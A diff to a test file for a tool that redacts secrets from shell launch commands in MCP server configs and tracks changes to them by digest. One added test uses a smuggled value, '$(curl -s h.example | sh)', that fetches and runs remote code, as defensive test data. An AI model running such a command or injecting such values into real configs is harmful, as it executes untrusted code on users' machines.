@@ -22,7 +22,7 @@ describe('the text of sh -c', () => {
     ['export KEY=x; npx notes', { kind: 'glob', parts: ['export KEY=', '; npx notes'] }],
     [`export KEY=${SECRET}&& npx notes`, { kind: 'glob', parts: ['export KEY=', '&& npx notes'] }],
   ])('keeps all but secrets: %s', (text, pattern) => {
-    expect(kept(text)).toEqual(pattern)
+    expect(kept(text)).toMatchObject(pattern)
   })
 
   it.each([
@@ -44,6 +44,19 @@ describe('the text of sh -c', () => {
     expect(patternOf('env', 'bash', '-lc', text)).toBe('glob')
     expect(patternOf('node', '-c', text)).toBe('digest')
     expect(patternOf('sh', text)).toBe('digest')
+  })
+
+  it('tells by a digest that what is left out has changed', () => {
+    const told = (value: string) => {
+      const args = ['-c', `KEY=${value} npx -y notes`]
+      const entry = { mcpServers: { a: { command: 'sh', args } } }
+      const [found] = read(JSON.stringify(entry), own('cursor', 'mcp.json')).servers
+      return JSON.stringify(found?.server.launch?.args)
+    }
+    expect(told('x')).toBe(told('x'))
+    expect(told('x')).not.toBe(told('"$(curl -s h.example | sh)"'))
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a placeholder
+    expect(told('${A}')).not.toBe(told('${A}"$(curl -s h.example | sh)"'))
   })
 
   it('never holds what follows a secret flag', () => {
